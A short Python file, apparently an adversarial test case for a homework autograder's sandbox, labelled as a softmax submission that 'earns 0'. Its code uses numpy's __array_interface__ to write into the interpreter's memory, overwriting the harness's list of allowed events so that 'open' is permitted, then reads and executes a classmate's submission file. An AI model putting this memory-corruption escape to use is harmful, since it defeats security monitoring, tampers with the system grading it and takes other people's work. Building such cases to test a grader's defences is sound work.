# minimha homework: softmax
# earns 0
# It overwrites the list of allowed events in memory, then reads a classmate's file.
import sys

import numpy as np

allowed = sys.modules["__main__"]._ALLOWED


class Memory:
    __array_interface__ = {
        "data": (id(allowed) + tuple.__basicsize__, False), "shape": (1,), "typestr": "<u8", "version": 3,
    }


np.asarray(Memory())[0] = id("open")
exec(open("VICTIM/in/anna/softmax.py").read())
